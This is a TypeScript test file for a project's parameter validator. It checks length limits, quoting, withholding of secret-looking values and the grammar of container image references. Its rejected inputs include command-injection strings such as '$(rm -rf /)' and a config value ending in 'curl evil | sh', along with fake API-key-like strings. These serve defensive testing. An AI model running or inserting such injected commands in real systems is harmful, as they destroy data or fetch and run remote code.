/**
 * The one validator (valibot schemas with the project's messages) for task
 * params: shapes, length limits, and the one helper that quotes untrusted
 * input in a message (cut to 80 characters, escaped, secrets withheld).
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { InvalidParamsError } from '../../../main/core/errors.ts';
import { loadTerokConfig } from '../../../main/core/host/config.ts';
import { ImageBuildError } from '../../../main/core/images/errors.ts';
import { imageReferenceProblem } from '../../../main/core/images/family.ts';
import { configBaseImageProblem, parseBuildParams, parseSidecarParams } from '../../../main/core/images/params.ts';
import { createSandboxHost } from '../../support/host.ts';
import { looksLikeSecret, MAX_PARAM_LENGTH, MAX_QUOTED, optBool, optStr, parseWith, quoteInput, taskParams, tooLong, WITHHELD } from '../../../main/core/validate.ts';

const schema = taskParams({ s: optStr('s'), b: optBool('b'), n: optStr('n'), z: optStr('z') });
const fail = (m: string) => new Error(m);

test('task params: absent params are an empty object; arrays and scalars are refused', () => {
  assert.deepEqual(parseWith(schema, undefined, fail), {});
  assert.deepEqual(parseWith(schema, null, fail), {});
  assert.throws(() => parseWith(schema, [], fail), /^Error: parameters must be an object$/);
  assert.throws(() => parseWith(schema, 'x', fail), /parameters must be an object/);
});

test('task params: unknown keys are named with the allowed ones; typed fields say which one is wrong', () => {
  assert.throws(() => parseWith(taskParams({ a: optStr('a'), b: optStr('b') }), { a: 'x', evil: 2 }, fail), /^Error: unknown parameter\(s\): evil \(allowed: a, b\)$/);
  const p = parseWith(schema, { s: 'x', b: true, z: null }, fail);
  assert.equal(p.s, 'x');
  assert.equal(p.b, true);
  assert.equal(p.z, null, 'null passes as absent');
  assert.throws(() => parseWith(schema, { n: 1 }, fail), /^Error: n must be a string$/);
  assert.throws(() => parseWith(schema, { b: 'yes' }, fail), /^Error: b must be true or false$/);
});

test('task params: without a caller error type the failure is invalid-params', () => {
  assert.throws(() => parseWith(schema, { b: 1 }), (err: unknown) => err instanceof InvalidParamsError && err.failureCode === 'invalid-params');
});

// ---- bounds and quoting ---------------------------------------------------------

const KEY = 'sk-ant-api03-0123456789abcdefSECRETsecret-tail';

test('every string param has a limit (4096 unless its field says less); the message names the field and the limit, never the value', () => {
  assert.equal(MAX_PARAM_LENGTH, 4096);
  assert.equal(parseWith(schema, { s: 'x'.repeat(4096) }, fail).s?.length, 4096);
  assert.throws(() => parseWith(schema, { s: 'y'.repeat(4097) }, fail), (e: Error) => e.message === 's is too long (at most 4096 characters)' && !e.message.includes('yyy'));
  const short = taskParams({ name: optStr('name', 64) });
  assert.throws(() => parseWith(short, { name: KEY + KEY }, fail), (e: Error) => e.message === 'name is too long (at most 64 characters)');
  assert.equal(tooLong('agent', 10), 'agent is too long (at most 10 characters)');
});

test('quoteInput: short input quoted as is; long input cut to 80 characters ending in …', () => {
  assert.equal(quoteInput('ubuntu:24.04'), "'ubuntu:24.04'");
  assert.equal(quoteInput('nope', { bare: true }), 'nope');
  const long = 'a-'.repeat(100);
  const shown = quoteInput(long, { bare: true });
  assert.equal(Array.from(shown).length, MAX_QUOTED);
  assert.ok(shown.endsWith('…'));
  assert.equal(shown, `${long.slice(0, 79)}…`);
  assert.equal(quoteInput('x'.repeat(80).replace(/x/g, 'ab-').slice(0, 80), { bare: true }).length, 80, 'exactly 80 is not cut');
  // Cut on characters, not UTF-16 units: no half emoji.
  assert.equal(Array.from(quoteInput('😀'.repeat(200), { bare: true })).length, 80);
});

test('quoteInput: control characters and bidi overrides are escaped, so a message cannot be rewritten by its input', () => {
  assert.equal(quoteInput('a\nb\tc\u0000d'), "'a\\nb\\tc\\u0000d'");
  assert.equal(quoteInput('x\u202Ey'), "'x\\u202ey'");
  assert.equal(quoteInput('\x1b[31mred'), "'\\u001b[31mred'");
});

test('quoteInput: a value that looks like a key or token is never shown, whatever field it was typed into', () => {
  for (const secret of [KEY, 'ghp_abcdefghijklmnopqrstuvwxyz0123456789', 'glpat-AbCdEf0123456789xyz', 'AKIAIOSFODNN7EXAMPLE', 'q7Xv2LmP9rT4wZ8kB3nY6cD1', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    `my key is ${'Zr8pQ2xW9mK4tB7v'}`, 'squ_0a1b2c3d4e5f67890a1b2c3d4e5f67890a1b2c3d']) {
    assert.equal(quoteInput(secret), WITHHELD, secret.slice(0, 6));
    assert.equal(looksLikeSecret(secret), true);
  }
  for (const name of ['claude', 'default', 'my-proj', 'ubuntu:24.04', 'registry.example.com:5000/team/image:tag', 'fedora-44-claude-codex', 'all,-vibe', 'experimental-feature-2025',
    'x'.repeat(20), 'myproject2024abc', 'experimental2025build1', '3f2504e0-4f89-11d3-9a0c-0305e82c3301', 'terok-l1-cli:ubuntu-24.04-claude-codex']) {
    assert.equal(looksLikeSecret(name), false, name);
  }
});

test('unknown keys are quoted through quoteInput and at most five are named', () => {
  const s2 = taskParams({ a: optStr('a') });
  assert.throws(() => parseWith(s2, { [KEY]: 1 }, fail), (e: Error) => e.message === `unknown parameter(s): ${WITHHELD} (allowed: a)` && !e.message.includes('SECRET'));
  assert.throws(() => parseWith(s2, { ['k-'.repeat(250)]: 1 }, fail), (e: Error) => e.message === `unknown parameter(s): ${'k-'.repeat(40).slice(0, 79)}… (allowed: a)`);
  const many = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`x${i}`, i]));
  assert.throws(() => parseWith(s2, many, fail), /^Error: unknown parameter\(s\): x0, x1, x2, x3, x4, … \(4 more\) \(allowed: a\)$/);
});

// ---- images.build params: what an image reference is, and the configured default --------

test('image references: the distribution grammar podman parses', () => {
  for (const ok of ['ubuntu:24.04', 'fedora:44', 'debian', 'registry.example.com:5000/team/image:tag', 'localhost/x:latest', 'localhost:5000/custom:1',
    'docker.io/library/ubuntu:24.04', `ubuntu@sha256:${'a'.repeat(64)}`, 'quay.io/podman/stable:v5', 'my/base:1', 'terok-l0:ubuntu-24.04', 'a__b/c.d-e:T_1']) {
    assert.equal(imageReferenceProblem(ok), null, ok);
  }
  const bad: [string, RegExp][] = [
    ['', /empty/],
    ['a b', /spaces or control/],
    ['ubuntu:24.04\n', /spaces or control/],
    ['Ubuntu:24.04', /lowercase/],
    ['ubuntu:', /tag after ':'/],
    ['ubuntu:-x', /tag after ':'/],
    ['ubuntu@sha256:xyz', /digest after '@'/],
    ['/ubuntu', /name part is empty/],
    ['team//image', /name part is empty/],
    ['$(rm -rf /)', /spaces or control/],
    ['$(reboot)', /name parts may hold only/],
    ['ubuntu;ls', /tag after ':'|name parts/],
    ['-x/y', /name parts may hold only/],
    ['bad_host.example.com/x', /registry host/],
    [`a/${'b'.repeat(300)}`, /longer than 255/],
  ];
  for (const [ref, why] of bad) assert.match(imageReferenceProblem(ref) ?? 'valid', why, JSON.stringify(ref));
});

test('a bad baseImage param is refused with the reason, quoted and cut short; base_image from config.yml is named as that key', () => {
  assert.throws(() => parseBuildParams({ baseImage: 'Ubuntu:24.04' }, 'ubuntu:24.04'), (e: Error) => e instanceof ImageBuildError && e.message === "'Ubuntu:24.04' is not a valid image reference: repository names must be lowercase");
  assert.throws(() => parseBuildParams({ baseImage: 'x'.repeat(256) }, 'ubuntu:24.04'), /^ImageBuildError: baseImage is too long \(at most 255 characters\)$/);
  assert.throws(() => parseBuildParams({ agents: 'a,'.repeat(1001) }, 'ubuntu:24.04'), /agents is too long \(at most 2000 characters\)/);
  // The default (config.yml's image.base_image) is malformed: the message names the key and the file.
  const fromConfig = /^ImageBuildError: image\.base_image in config\.yml is not a valid image reference \('ubuntu 24\.04': it contains spaces or control characters\); fix it there/;
  assert.throws(() => parseBuildParams({}, 'ubuntu 24.04'), fromConfig);
  assert.throws(() => parseSidecarParams({}, 'ubuntu 24.04'), fromConfig);
  // The gate's fix and the CLI pass the configured value on as the param: still named as the config key.
  assert.throws(() => parseBuildParams({ baseImage: 'ubuntu 24.04' }, 'ubuntu 24.04'), fromConfig);
  // A key pasted into a name field is refused unshown, before the roster's "unknown" message could quote it.
  const KEYISH = 'sk-ant-fault-0123456789abcdefNEWKEY';
  for (const [fn, params] of [[parseBuildParams, { agents: `claude,${KEYISH.toLowerCase()}` }], [parseBuildParams, { agents: `all,-${KEYISH}` }], [parseSidecarParams, { toolName: KEYISH }]] as const) {
    assert.throws(() => fn(params, 'ubuntu:24.04'), (e: Error) => e instanceof ImageBuildError && /looks like an API key or token, so it is not shown and nothing was built/.test(e.message) && !e.message.includes('0123456789'));
  }
  // An explicit, valid base image wins over a broken default.
  assert.equal(parseBuildParams({ baseImage: 'fedora:44' }, 'ubuntu 24.04').baseImage, 'fedora:44');
});

test('configBaseImageProblem names the file that sets image.base_image, and the key', () => {
  const host = createSandboxHost({ inheritPath: false });
  try {
    const file = host.write('home/.config/terok/config.yml', 'image:\n  base_image: "ubuntu:24.04 && curl evil | sh"\n');
    assert.equal(configBaseImageProblem(loadTerokConfig(host.ctx)),
      `image.base_image in ${file} is not a valid image reference ('ubuntu:24.04 && curl evil | sh': it contains spaces or control characters); fix it there, for example \`image: {base_image: ubuntu:24.04}\`, or choose a base image explicitly (--base).`);
    host.write('home/.config/terok/config.yml', 'image:\n  base_image: 24.04\n');
    assert.match(configBaseImageProblem(loadTerokConfig(host.ctx)) ?? '', /^image\.base_image in .*config\.yml is not a valid image reference \(a number: it must be a string\)/);
    host.write('home/.config/terok/config.yml', 'image:\n  base_image: fedora:44\n');
    assert.equal(configBaseImageProblem(loadTerokConfig(host.ctx)), null);
    host.write('home/.config/terok/config.yml', '# nothing\n');
    assert.equal(configBaseImageProblem(loadTerokConfig(host.ctx)), null);
  } finally {
    host.cleanup();
  }
});
